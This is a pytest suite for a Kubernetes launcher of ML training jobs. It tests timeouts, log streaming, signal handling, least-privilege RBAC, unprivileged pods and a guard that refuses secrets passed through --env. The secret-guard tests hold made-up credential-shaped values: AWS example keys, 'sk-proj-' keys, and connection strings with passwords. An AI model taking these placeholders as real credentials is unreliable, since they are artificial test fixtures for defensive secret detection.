                head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
                conn.sendall(head.encode() + b"Connection: close\r\n\r\n" + body)
                conn.close()
                return
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n")
            while not self._stop.wait(0.05):
                conn.sendall(b"x")
        except OSError:
            pass


def test_a_trickling_log_cannot_hold_status(cli, state_dir, tmp_path, monkeypatch):
    from launcher.state import JobRecord

    monkeypatch.setattr("launcher.backends.kube_api.READ_TIMEOUT_S", 0.5)
    monkeypatch.setattr("launcher.backends.kube_api.CALL_BUDGET_S", 1.0)
    server = TricklingLogServer()
    try:
        cfg = _kubeconfig_for(tmp_path / "k.yaml", f"http://127.0.0.1:{server.port}")
        basis = {
            "nodes": 1,
            "usd_per_node_hour": PRICE,
            "total_steps": 10,
            "global_batch": 32,
            "estimate_usd": 1.0,
        }
        JobStore().put(
            JobRecord(
                name="j",
                backend="kubernetes",
                bundle_dir="/nonexistent",
                plan={"cost_basis": basis},
                estimate={},
                namespace="ml",
                backend_data={"kubeconfig": str(cfg), "workload": ["batch/v1", "Job", "j"], "ranks": 1},
            )
        )
        result: list = []
        t = threading.Thread(target=lambda: result.append(cli("status", "j")), daemon=True)
        t.start()
        t.join(timeout=20.0)  # a bound for the failing case only: the fixed status ends after ~1 s
        assert not t.is_alive(), "status waited on a trickling log past its 1 s call budget"
        assert result[0].exit_code == 0 and "job j (kubernetes namespace ml): Running" in result[0].output
    finally:
        server.close()


def test_a_hung_api_server_cannot_hold_status_or_list(cli, state_dir, tmp_path, monkeypatch, bundle_factory):
    from launcher.state import JobRecord

    monkeypatch.setattr("launcher.backends.kube_api.READ_TIMEOUT_S", 0.3)
    monkeypatch.setattr("launcher.backends.kube_api.CALL_BUDGET_S", 1.0)
    hung = HungServer()
    try:
        cfg = tmp_path / "hung.yaml"
        cfg.write_text(
            json.dumps(
                {
                    "apiVersion": "v1",
                    "kind": "Config",
                    "current-context": "hung",
                    "clusters": [{"name": "hung", "cluster": {"server": f"http://127.0.0.1:{hung.port}"}}],
                    "users": [{"name": "u", "user": {"token": "t"}}],
                    "contexts": [
                        {"name": "hung", "context": {"cluster": "hung", "user": "u", "namespace": "ml"}}
                    ],
                }
            )
        )
        store = JobStore()
        basis = {
            "nodes": 2,
            "usd_per_node_hour": PRICE,
            "total_steps": 10,
            "global_batch": 32,
            "estimate_usd": 1.0,
        }
        for i in range(3):
            store.put(
                JobRecord(
                    name=f"j{i}",
                    backend="kubernetes",
                    bundle_dir="/nonexistent",
                    plan={"cost_basis": basis},
                    estimate={},
                    namespace="ml",
                    backend_data={"kubeconfig": str(cfg), "workload": ["batch/v1", "Job", f"j{i}"]},
                )
            )
        r = cli("status", "j0")
        assert r.exit_code == 1 and "within 1s" in r.output and "Traceback" not in r.output
        first = len(hung.accepted)
        assert 1 <= first <= FAST.attempts
        r = cli("list")
        assert r.exit_code == 0 and r.output.count("unreachable") == 3
        # The first job's call used the budget; the other two failed fast without a connection.
        assert len(hung.accepted) - first <= FAST.attempts
    finally:
        hung.close()


def test_a_forbidden_pod_watch_does_not_spin(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    from launcher.backends.kubernetes import KubernetesBackend

    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig).exit_code == 0
    forbidden = {"kind": "Status", "message": 'pods is forbidden: User "tester" cannot watch resource "pods"'}
    cluster.do(lambda: cluster.handler["watch"] << 403 << forbidden)
    rec = JobStore().get("eva-test")
    be = KubernetesBackend.for_record(rec, backoff=FAST)
    for _ in range(5):
        assert be.wait_for_change(rec, timeout_s=0.05) is False
    watches = [
        q for q in cluster.requests("GET", f"/api/v1/namespaces/{NAMESPACE}/pods") if q.params.get("watch")
    ]
    assert len(watches) == 1  # asked once; then it polls on the interval
    assert len(be.notices) == 1 and "forbidden" in be.notices[0]


def test_preflight_degrades_without_cluster_wide_read(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    cluster.do(
        lambda: cluster.handler["get", "/api/v1/pods"] << 403 << {"kind": "Status", "message": "forbidden"}
    )
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig, "--dry-run")
    assert r.exit_code == 0, r.output
    assert "only node capacity was checked" in r.output and "evaplan-preflight" in r.output
    cluster.do(
        lambda: cluster.handler["get", "/api/v1/nodes"] << 403 << {"kind": "Status", "message": "forbidden"}
    )
    r = _launch(cli, bundle_factory(tmp_path / "c"), kubeconfig)
    assert r.exit_code == 0, r.output
    assert "GPU check was skipped" in r.output


# --------------------------------------------------------------------------- status, logs, stop truth
@pytest.fixture
def launched(cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory):
    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig).exit_code == 0
    cluster.put("v1/pods", NAMESPACE, "eva-test-0", _pod("eva-test-0", 0))


@pytest.mark.parametrize(
    ("status", "reason"),
    [
        (
            {
                "phase": "Failed",
                "containerStatuses": [
                    {"name": "trainer", "state": {"terminated": {"reason": "OOMKilled", "exitCode": 137}}}
                ],
            },
            "OOMKilled",
        ),
        (
            {"phase": "Failed", "reason": "Evicted", "message": "The node was low on resource: memory."},
            "Evicted",
        ),
        (
            {
                "phase": "Failed",
                "conditions": [
                    {
                        "type": "DisruptionTarget",
                        "status": "True",
                        "reason": "PreemptionByScheduler",
                        "message": "Preempted in order to admit critical pod",
                    }
                ],
                "containerStatuses": [
                    {"name": "trainer", "state": {"terminated": {"reason": "Error", "exitCode": 143}}}
                ],
            },
            "Preempted",
        ),
    ],
)
def test_a_broken_rank_is_not_shown_as_running(launched, cluster, cli, status, reason):
    cluster.put("v1/pods", NAMESPACE, "eva-test-1", _pod("eva-test-1", 1, status=status))
    doc = json.loads(cli("status", "eva-test", "-o", "json").output)
    assert doc["phase"] == "Degraded" and doc["message"].startswith(f"rank 1 (eva-test-1) {reason}")
    assert {r["rank"]: r["reason"] for r in doc["ranks"]} == {0: None, 1: reason}


def test_logs_for_a_rank_the_job_does_not_have(launched, cli):
    r = cli("logs", "eva-test", "--rank", "7")
    assert r.exit_code == 2
    assert r.output.strip().splitlines() == [
        "error: job 'eva-test' has 2 ranks (0-1); there is no rank 7 (`evaplan status` lists the ranks)"
    ]


def _script_log(cluster, pod: str, *items) -> None:
    path = f"/api/v1/namespaces/{NAMESPACE}/pods/{pod}/log"
    cluster.do(lambda: cluster.handler[path][:1] << kmock.headers({"Content-Type": "text/plain"}) << items)


def test_a_dropped_log_stream_is_reported(launched, cluster, cli):
    _script_log(cluster, "eva-test-0", b"2026-11-27T10:00:01Z a\n", b"2026-11-27T10:00:02Z b\n", _drop)
    r = cli("logs", "eva-test")
    assert r.exit_code == 1 and "Traceback" not in r.output and "internal error" not in r.output
    lines = r.output.splitlines()
    assert lines[:2] == ["[rank 0] a", "[rank 0] b"]
    assert "log stream of eva-test-0 dropped after 2 lines" in lines[2]
    assert lines[-1].startswith("error: the log of rank 0 (eva-test-0) broke off after 2 lines")


def test_a_followed_log_reconnects_where_it_stopped(launched, cluster, cli):
    _script_log(cluster, "eva-test-0", b"2026-11-27T10:00:01Z a\n", b"2026-11-27T10:00:02Z b\n", _drop)
    # The reconnect replays from sinceTime (second resolution) and goes on; then the container ends.
    path = f"/api/v1/namespaces/{NAMESPACE}/pods/eva-test-0/log"
    cluster.do(
        lambda: (
            cluster.handler[path][:1]
            << kmock.headers({"Content-Type": "text/plain"})
            << (b"2026-11-27T10:00:02Z b\n", b"2026-11-27T10:00:03Z c\n")
        )
    )
    cluster.do(
        lambda: (
            cluster.handler[path]
            << kmock.headers({"Content-Type": "text/plain"})
            << (b"2026-11-27T10:00:03Z c\n",)
        )
    )
    r = cli("logs", "eva-test", "-f")
    assert r.exit_code == 0, r.output
    text = [x for x in r.output.splitlines() if not x.startswith("[rank 0] (")]
    assert text == ["[rank 0] a", "[rank 0] b", "[rank 0] c"]
    assert "dropped" in r.output and "reconnecting" in r.output
    since = [q.params.get("sinceTime") for q in cluster.requests("GET", path)]
    assert since[:2] == [None, "2026-11-27T10:00:02Z"]


def test_stop_on_a_finished_job_says_so(launched, cluster, cli):
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    _set_condition(cluster, job, "Complete")
    r = cli("stop", "eva-test")
    assert r.exit_code == 0
    assert r.output.startswith("eva-test had already finished (Succeeded); nothing to stop")
    assert cluster.objects("batch/v1/jobs") == {}  # its objects are still cleaned up
    assert JobStore().get("eva-test").last_phase == "Succeeded"


# --------------------------------------------------------------------------- --env
@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("NODE_RANK=0", "set by the launcher for each pod"),
        ("MASTER_ADDR=10.0.0.1", "set by the launcher for each pod"),
        ("PET_NNODES=4", "set by the launcher for each pod"),
        ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "looks like a secret"),
        ("HF_TOKEN=abc", "looks like a secret"),
        ("WANDB_API_KEY=abc", "looks like a secret"),
        ("DB_PASSWORD=hunter2", "looks like a secret"),
        ("MY_KEY_ID=AKIAIOSFODNN7EXAMPLE", "looks like an AWS access key id"),
        ("DATA=s3://user:pass@host/x", "a URL with a password"),
        ("S3_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE", "looks like a secret"),
        ("OPENAI_KEY=sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep", "looks like a secret"),
        ("WANDB_KEY=3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21", "looks like a secret"),
        ("PGPASS=hunter2", "looks like a secret"),
        ("LLM=sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep", "an API secret key"),
        (
            "AZ_STORAGE=DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=bm90IGEgcmVhbCBrZXkgYXQgYWxs;",
            "a connection string with a key",
        ),
        ("DB=Server=db.internal;User Id=sa;Password=Tr0ub4dor&3;", "a connection string with a password"),
        ("OPAQUE=kT9vQ2mZx7LpR4wN8bYc1HsJ6dFgE3aU0", "a random-looking value"),
        ("BLOB=q8ZrT2xLw9VbN4mKp7HsY1dF6gJc3AeU", "a random-looking value"),
        ("CERT=-----BEGIN CERTIFICATE-----", "a PEM block"),
    ],
)
def test_env_refuses_reserved_names_and_secrets(entry, message, cli, tmp_path):
    r = cli(
        "render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
        "--image", "ghcr.io/acme/evaclip:1.0", "--env", entry, "-o", str(tmp_path / "out"),
    )  # fmt: skip
    assert r.exit_code == 2 and message in r.output and "Traceback" not in r.output
    assert len(r.output.strip().splitlines()) == 1
    if message != "set by the launcher for each pod":
        assert "Secret" in r.output and "--s3-secret" in r.output and "--env-not-secret" in r.output
        value = entry.partition("=")[2]
        assert value not in r.output and value[:12] not in r.output  # never echoed, not even in part
    assert not (tmp_path / "out").exists()


def test_a_malformed_env_entry_is_not_echoed(cli, tmp_path):
    """`--env VALUE` without a name (a pasted key) is refused without quoting it."""
    key = "sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep"
    r = cli(
        "render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
        "--image", "ghcr.io/acme/evaclip:1.0", "--env", "NCCL_DEBUG_SUBSYS=INIT", "--env", key, "--stdout",
    )  # fmt: skip
    assert r.exit_code == 2 and "--env entry 2 is not KEY=VALUE" in r.output
    assert key[:8] not in r.output and len(r.output.strip().splitlines()) == 1
    r = cli("render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
            "--image", "ghcr.io/acme/evaclip:1.0", "--env", f"{key}=1", "--stdout")  # fmt: skip
    assert r.exit_code == 2 and "an --env name looks like an API secret key" in r.output
    assert key[:8] not in r.output


def test_env_not_secret_overrides_a_false_positive_by_name(cli, tmp_path):
    base = ("render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
            "--image", "ghcr.io/acme/evaclip:1.0", "-o", str(tmp_path / "out"))  # fmt: skip
    sha = "GIT_SHA=3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21"  # a commit id, random-looking by design
    assert cli(*base, "--env", sha).exit_code == 2
    r = cli(*base, "--env", sha, "--env-not-secret", "GIT_SHA")
    assert r.exit_code == 0, r.output
    assert "3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21" in (tmp_path / "out" / "manifests.yaml").read_text()
    # Files that carry --env values are the user's alone; without --env they stay shared (0644).
    for name in ("manifests.yaml", "bundle.json"):
        assert (tmp_path / "out" / name).stat().st_mode & 0o777 == 0o600, name
    assert (tmp_path / "out" / "ds_config.json").stat().st_mode & 0o777 == 0o644
    r = cli(*base, "--env-not-secret", "OTHER")
    assert r.exit_code == 2 and "--env-not-secret OTHER names no --env" in r.output
    r = cli(*base, "--env", "NODE_RANK=0", "--env-not-secret", "NODE_RANK")
    assert r.exit_code == 2 and "set by the launcher for each pod" in r.output


def test_env_keeps_ordinary_settings():
    from launcher.env_policy import check_env_entry

    for name, value in (
        ("TOKENIZERS_PARALLELISM", "false"),
        ("NCCL_NET_GDR_LEVEL", "PHB"),
        ("KEYRING", "x"),
        ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True,max_split_size_mb:512"),
        ("NCCL_IB_HCA", "mlx5_0:1,mlx5_1:1,mlx5_2:1,mlx5_3:1,mlx5_4:1"),
        ("DATA", "s3://laion-400m-shards/train/{000000..041407}.tar"),
        ("HF_HOME", "/checkpoints/huggingface-cache/transformers"),
        ("WANDB_PROJECT", "eva-clip-8b-laion2b-ablation-lr-warmup-2000"),
        ("WANDB_RUN_GROUP", "eva02_clip_vit_l14_336_laion400m_run17"),
        ("DB", "postgresql://trainer@db.internal:5432/metrics"),
        ("PASSES", "3"),
        ("IMAGE", "ghcr.io/acme/evaclip@sha256:" + "3f2a9c1e7b4d8f0a" * 4),
    ):
        check_env_entry(name, value)


def test_a_refused_launch_leaves_the_stored_bundle_as_it_was(cli, cluster, gpus, kubeconfig, state_dir):
    flags = (
        "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1", "--offering", "aws-p5",
        "--image", "ghcr.io/acme/evaclip:1.0", "--job-name", "long1", "--kubeconfig", str(kubeconfig),
    )  # fmt: skip
    assert cli("launch", *flags, "--samples", "2000").exit_code == 0
    stored = state_dir / "bundles" / "long1"
    before = {p.name: p.read_bytes() for p in stored.iterdir()}
    r = cli("launch", *flags, "--samples", "10000")
    assert r.exit_code == 2 and "was launched already" in r.output
    assert {p.name: p.read_bytes() for p in stored.iterdir()} == before
    # Neither a dry run nor a launch the cluster refuses (here: the preflight) touches it either.
    assert cli("launch", *flags, "--samples", "10000", "--replace", "--dry-run").exit_code == 0
    assert cli("launch", *flags, "--samples", "10000", "--replace", "--nodes", "4").exit_code == 2
    assert {p.name: p.read_bytes() for p in stored.iterdir()} == before
    assert not [p for p in (state_dir / "bundles").iterdir() if p.name.startswith(".")]  # no leftovers


def test_pods_run_unprivileged(cli):
    base = ("render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
            "--image", "ghcr.io/acme/evaclip:1.0", "--stdout")  # fmt: skip

    def pod_spec(*extra: str) -> dict:
        r = cli(*base, *extra)
        assert r.exit_code == 0, r.output
        (job,) = [d for d in yaml.safe_load_all(r.stdout) if d and d["kind"] == "Job"]
        return job["spec"]["template"]["spec"]

    spec = pod_spec()
    assert spec["automountServiceAccountToken"] is False
    sc = spec["securityContext"]
    assert sc["runAsNonRoot"] is True and sc["runAsUser"] != 0 and sc["fsGroup"] == sc["runAsGroup"]
    assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
    csc = spec["containers"][0]["securityContext"]
    assert csc == {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    rdma = pod_spec("--rdma-resource", "rdma/ib")["containers"][0]["securityContext"]
    assert rdma["capabilities"] == {"drop": ["ALL"], "add": ["IPC_LOCK"]}


def _rbac_calls(cluster) -> set[tuple[str, str, bool]]:
    """(resource, verb, namespaced) of every request the launcher made; discovery left out."""
    import re

    out = set()
    for q in cluster.do(lambda: list(cluster.handler._requests)):
        m = re.fullmatch(
            r"/apis?/(?:([^/]+)/)?v[^/]+(?:/namespaces/[^/]+)?/([^/]+)(?:/([^/]+))?(?:/([^/]+))?", q.url.path
        )
        if m is None or (q.url.path.startswith("/apis/") and m.group(1) is None):
            continue  # /apis/<group>/<version>: API discovery, open to every authenticated user
        group = m.group(1) if q.url.path.startswith("/apis/") else ""
        resource = m.group(2) + (f"/{m.group(4)}" if m.group(4) else "")
        named = m.group(3) is not None
        method = q.method.value
        verb = (
            "watch"
            if q.params.get("watch")
            else {"GET": "get" if named else "list", "POST": "create", "DELETE": "delete"}.get(
                method, method.lower()
            )
        )
        if q.params.get("dryRun"):
            verb = "create"  # a server-side dry run is authorized as the verb itself
        out.add((f"{group}/{resource}" if group else resource, verb, "/namespaces/" in q.url.path))
    return out


def test_the_shipped_role_covers_exactly_what_the_commands_do(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    assert _launch(cli, bundle, kubeconfig).exit_code == 0
    assert _launch(cli, bundle, kubeconfig, "--replace").exit_code == 0
    cluster.put("v1/pods", NAMESPACE, "eva-test-0", _pod("eva-test-0", 0))
    log = f"/api/v1/namespaces/{NAMESPACE}/pods/eva-test-0/log"
    cluster.do(
        lambda: (
            cluster.handler[log]
            << kmock.headers({"Content-Type": "text/plain"})
            << (b"2026-11-27T10:00:01Z a\n",)
        )
    )
    job = cluster.objects("batch/v1/jobs")[(NAMESPACE, "eva-test")]
    assert cli("status", "eva-test").exit_code == 0
    assert cli("logs", "eva-test", "-f").exit_code == 0  # the stream ends, the pod is re-read
    from launcher.backends.kubernetes import KubernetesBackend

    rec = JobStore().get("eva-test")
    KubernetesBackend.for_record(rec, backoff=FAST).wait_for_change(
        rec, timeout_s=0.05
    )  # what --watch waits on
    _set_condition(cluster, job, "Complete")
    assert cli("status", "eva-test", "--watch", "--interval", "0.1").exit_code == 0
    stopped = cli("stop", "eva-test")
    assert stopped.exit_code == 0, stopped.output
    used = _rbac_calls(cluster)

    docs = list(yaml.safe_load_all((bundle / "rbac.yaml").read_text()))
    role = next(d for d in docs if d["kind"] == "Role")
    cluster_role = next(d for d in docs if d["kind"] == "ClusterRole")

    def granted(rules) -> set[tuple[str, str]]:
        return {
            (f"{g}/{r}" if g else r, v)
            for rule in rules
            for g in rule["apiGroups"]
            for r in rule["resources"]
            for v in rule["verbs"]
        }

    in_ns, cluster_wide = granted(role["rules"]), granted(cluster_role["rules"])
    missing = {(r, v) for r, v, ns in used if (r, v) not in (in_ns if ns else cluster_wide)}
    assert not missing  # every call the commands made is granted
    # ... and nothing granted goes unused (the CRD flavours' rules mirror batch/jobs).
    exercised = {r for r, _, _ in used}
    unused = {
        (r, v)
        for r, v in in_ns | cluster_wide
        if r in exercised and (r, v) not in {(a, b) for a, b, _ in used}
    }
    assert not unused
    assert {r for r, _ in in_ns} - exercised == {"kubeflow.org/pytorchjobs", "jobset.x-k8s.io/jobsets"}
    crd_rules = [x for x in role["rules"] if x["apiGroups"] != [""]]
    assert all(
        x["verbs"] == next(y for y in crd_rules if y["apiGroups"] == ["batch"])["verbs"] for x in crd_rules
    )


# --------------------------------------------------------------------------- interrupted and racing launches
def _signal_held() -> bool:
    """Whether launch holds a signal until a create's reply is in (launcher/backends/interrupts.py)."""
    import sys

    return bool(getattr(sys.modules.get("launcher.backends.interrupts"), "HELD", ()))


async def _until(pred, polls: int = 6000) -> None:
    """Wait on the server's loop until `pred()` (polled; the bound only keeps a broken test finite)."""
    import asyncio

    for _ in range(polls):
        if pred():
            return
        await asyncio.sleep(0.01)


def test_sigterm_during_a_slow_job_create_leaves_no_unrecorded_job(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    """The Job create is in flight when SIGTERM comes, and the server stores the Job only once
    the launch has either held the signal until the reply is in, or given up and returned."""
    import asyncio
    import os
    import signal
    import time

    released, held = [False], [False]

    async def slow_job_create(request) -> None:
        if request.method.value == "POST" and request.url.path == JOBS and not request.params.get("dryRun"):
            os.kill(os.getpid(), signal.SIGTERM)
            try:
                await _until(lambda: _signal_held() or released[0])
            except asyncio.CancelledError:
                # The client hung up (aiohttp cancels the handler); the API server still commits
                # the create it had under way: the Job lands once the launch has returned.
                asyncio.get_running_loop().create_task(land_when_released(request.data))
                raise
            held[0] = _signal_held()

    async def land_when_released(job: dict) -> None:
        await _until(lambda: released[0])
        cluster.handler.objects[(kmock.resource("batch/v1/jobs"), NAMESPACE, "eva-test")] = job

    cluster.handler.before = slow_job_create
    r = _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig)
    released[0] = True
    deadline = time.monotonic() + 60  # the late create lands within milliseconds; a bound only
    while not (held[0] or cluster.objects("batch/v1/jobs")) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert r.exit_code == 130 and "interrupted" in r.output, r.output
    left = _labelled(cluster)
    listing = cli("list").output
    assert left == [] or "eva-test" in listing, (left, listing)  # nothing lands unrecorded
    if "eva-test" in listing:
        assert cli("stop", "eva-test").exit_code == 0
    assert _labelled(cluster) == []
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL


def test_concurrent_launches_of_one_name_leave_the_winner_whole(
    cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    """Two `launch` processes of one bundle into one store, both past their checks before either
    creates anything (API latency): one launches, the other says why not in one line and deletes
    nothing of the winner's."""
    import os
    import subprocess
    import sys

    bundle = bundle_factory(tmp_path / "b")
    arrived: list[str] = []

    async def both_checked_first(request) -> None:
        if (
            request.method.value == "POST"
            and request.params.get("dryRun")
            and "/configmaps" in request.url.path
        ):
            arrived.append(request.url.path)
            await _until(lambda: len(arrived) >= 2)

    cluster.handler.before = both_checked_first
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    argv = [sys.executable, "-c", "from launcher.cli import main; main()", "launch", str(bundle)]
    argv += ["--kubeconfig", str(kubeconfig)]
    procs = [
        subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        for _ in range(2)
    ]
    outs = [(p.wait(timeout=300), p.communicate()[0]) for p in procs]
    codes = sorted(code for code, _ in outs)
    assert codes == [0, 2], outs
    loser = next(out for code, out in outs if code == 2)
    assert "recorded by another launch" in loser and "already exists" not in loser, loser
    assert _labelled(cluster) == [
        "batch/v1/jobs/eva-test",
        "v1/configmaps/eva-test-config",
        "v1/services/eva-test",
    ]
    rec = JobStore().get("eva-test")
    assert rec.last_phase == "Submitted" and rec.backend_data["owner"] == owner_id()


# --------------------------------------------------------------------------- the cluster a job ran on
def _two_context_kubeconfig(path: Path, servers: dict[str, str], current: str) -> Path:
    path.write_text(
        json.dumps(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "current-context": current,
                "clusters": [{"name": n, "cluster": {"server": url}} for n, url in servers.items()],
                "users": [{"name": "u", "user": {"token": "t"}}],
                "contexts": [
                    {"name": n, "context": {"cluster": n, "user": "u", "namespace": NAMESPACE}}
                    for n in servers
                ],
            }
        )
    )
    return path


@pytest.fixture
def two_clusters(cluster, gpus, state_dir, tmp_path):
    """The `cluster` (context "first", current) and another one (context "other") in one kubeconfig."""
    from tests.launcher.conftest import Cluster

    other = Cluster()
    cfg = _two_context_kubeconfig(
        tmp_path / "kubeconfig.yaml", {"first": cluster.url, "other": other.url}, current="first"
    )
    try:
        yield cfg, other
    finally:
        other.close()


def test_stop_after_use_context_still_stops_the_job(cli, cluster, two_clusters, tmp_path, bundle_factory):
    cfg, other = two_clusters
    assert _launch(cli, bundle_factory(tmp_path / "b"), cfg).exit_code == 0
    # `kubectl config use-context other`: the job is still on the first cluster, and stop acts there.
    _two_context_kubeconfig(cfg, {"first": cluster.url, "other": other.url}, current="other")
    r = cli("stop", "eva-test")
    assert r.exit_code == 0 and "stopped eva-test" in r.output, r.output
    assert _labelled(cluster) == []


def test_a_job_names_its_cluster_and_is_found_again_when_the_kubeconfig_changes(
    cli, cluster, two_clusters, tmp_path, bundle_factory
):
    cfg, other = two_clusters
    assert _launch(cli, bundle_factory(tmp_path / "b"), cfg).exit_code == 0
    # The context itself now points at another server: refused in one line, nothing touched.
    _two_context_kubeconfig(cfg, {"first": other.url, "other": other.url}, current="first")
    r = cli("stop", "eva-test")
    assert r.exit_code == 2 and f"was launched on the cluster at {cluster.url}" in r.output, r.output
    assert "--kubeconfig" in r.output and len(_labelled(cluster)) == 3

    # The kubeconfig moved: --kubeconfig/--context point status, logs, list and stop at the cluster.
    moved = _two_context_kubeconfig(tmp_path / "moved.yaml", {"a": cluster.url}, current="a")
    cfg.unlink()
    r = cli("status", "eva-test", "--kubeconfig", str(moved))
    assert r.exit_code == 0, r.output
    assert cli("logs", "eva-test", "--kubeconfig", str(moved), "--context", "a").exit_code == 0
    assert "eva-test" in cli("list", "--kubeconfig", str(moved)).output
    r = cli("stop", "eva-test", "--kubeconfig", str(moved))
    assert r.exit_code == 0 and "stopped eva-test" in r.output, r.output
    assert _labelled(cluster) == []
    rec = JobStore().get("eva-test")
    assert rec.backend_data["server"] == cluster.url and rec.backend_data["context"] == "first"


def test_stop_during_status_watch_ends_the_watch_and_the_job_stays_stopped(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    import os
    import subprocess
    import sys
    import time

    bundle = bundle_factory(tmp_path / "b")
    assert _launch(cli, bundle, kubeconfig).exit_code == 0
    _running_pods(cluster, "2026-12-07T00:00:00Z")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    watch = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "from launcher.cli import main; main()",
            "status",
            "eva-test",
            "--watch",
            "--interval=0.2",
        ],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        deadline = time.monotonic() + 120  # the watch's first refresh; a bound only
        while watch.poll() is None and time.monotonic() < deadline:
            if JobStore().get("eva-test").last_phase == "Running":  # the watch has shown the job
                break
            time.sleep(0.05)
        r = cli("stop", "eva-test")
        assert r.exit_code == 0, r.output
        try:
            out = watch.communicate(timeout=60)[0]  # a bound only: the watch ends at its next refresh
        except subprocess.TimeoutExpired:
            pytest.fail("`status --watch` kept running after `stop`")
        assert watch.returncode == 0 and "Stopped" in out, out
    finally:
        if watch.poll() is None:
            watch.kill()
            watch.wait()
    assert JobStore().get("eva-test").last_phase == "Stopped"
    r = _launch(cli, bundle, kubeconfig, "--resume")
    assert r.exit_code == 0, r.output


def test_stop_on_a_read_only_store_says_the_job_was_stopped(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
):
    from launcher.state import DB_NAME
    from tests.launcher.test_job_store import _make_read_only, _make_writable

    assert _launch(cli, bundle_factory(tmp_path / "b"), kubeconfig).exit_code == 0
    paths = [state_dir, state_dir / DB_NAME]
    try:
        if not _make_read_only(paths):
            pytest.skip("cannot make a folder read-only here")
        r = cli("stop", "eva-test")
        assert r.exit_code == 1, r.output
        assert "stopped eva-test (its objects were deleted" in r.output and "could not record it" in r.output
        assert len(r.output.strip().splitlines()) == 1, r.output
        assert _labelled(cluster) == []
    finally:
        _make_writable(paths)


def test_a_name_taken_in_the_cluster_gets_a_hint_that_works(
    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, monkeypatch, bundle_factory
):
    bundle = bundle_factory(tmp_path / "b")
    assert _launch(cli, bundle, kubeconfig).exit_code == 0
    JobStore().delete("eva-test")  # the store lost its row: `stop eva-test` would know no such job
    r = _launch(cli, bundle, kubeconfig)
    assert r.exit_code == 2 and "no longer recorded" in r.output and "--replace" in r.output, r.output
    assert "evaplan stop" not in r.output
    # Another job store's job of that name: neither --replace nor stop could act on it.
    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / "another-store"))
    r = _launch(cli, bundle_factory(tmp_path / "b2"), kubeconfig)  # rendered (signed) by that store
    assert r.exit_code == 2 and "was not created by this job store" in r.output, r.output
    assert "--replace" not in r.output and "evaplan stop" not in r.output
    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(state_dir))
    assert _launch(cli, bundle, kubeconfig, "--replace").exit_code == 0
